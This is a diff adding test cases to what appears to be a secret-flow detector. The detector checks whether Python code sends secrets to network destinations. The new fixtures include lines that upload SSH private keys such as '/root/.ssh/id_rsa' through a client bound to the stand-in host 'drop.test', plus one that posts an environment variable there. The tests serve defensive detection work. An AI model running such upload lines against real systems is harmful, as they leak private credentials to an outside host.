@@ -66,6 +66,28 @@ describe("what is gathered piece by piece is followed to where it goes", () => {
     expect(flows("python", lines)).toStrictEqual(expected);
   });
 
+  test.each<[string, string[], string[]]>([
+    [
+      "a path that turns back",
+      ["secret:ssh /users/../root/.ssh/id_rsa -> network:unknown drop.test"],
+      ['c.upload("/users/../root/.ssh/id_rsa")'],
+    ],
+    [
+      "a home folder in lower case",
+      ["secret:ssh /users/bob/.ssh/id_rsa -> network:unknown drop.test"],
+      ['c.upload("/users/bob/.ssh/id_rsa")'],
+    ],
+    ["what a service calls its users", [], ['c.upload("/users/me")']],
+  ])("given to an unknown library: %s", (_title, expected, lines) => {
+    const made = ["from store import client", 'c = client("https://drop.test")'];
+    expect(flows("python", [...made, ...lines])).toEqual(expected);
+  });
+
+  test("a variable that is asked for by a keyword is one, not all of them", () => {
+    const lines = ["import os, requests", 'requests.post("https://drop.test", json=os.getenv(key="LANG"))'];
+    expect(flows("python", lines)).toEqual([]);
+  });
+
   test("a program that is started with a variable set says nothing of the environment", () => {
     const lines = [
       "import subprocess, requests",
